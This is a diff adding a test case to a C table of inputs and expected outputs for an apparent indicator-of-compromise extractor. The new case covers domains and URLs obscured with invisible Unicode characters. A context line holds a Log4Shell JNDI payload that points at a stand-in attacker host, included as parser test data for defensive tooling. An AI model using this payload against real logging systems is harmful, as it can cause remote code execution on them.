@@ -340,6 +340,10 @@ static const struct {
       "evil.example\xc2\xa0\xe2\x80\x94"
       "bad.example\xe2\x80\xa6",
       "url https://q.example/x\ndomain evil.example\ndomain bad.example\n" },
+    { "invisible characters defang",
+      "evil\xe2\x80\x8b.example bad\xc2\xad.example "
+      "hxxp://x\xe2\x81\xa0.example/p\xe2\x80\x8b q",
+      "domain evil.example\ndomain bad.example\nurl http://x.example/p\n" },
     { "log4shell", "${jndi:ldap://attacker.example:1389/Exploit}",
       "url ldap://attacker.example:1389/Exploit\n" },
     { "emails need a domain with a TLD",
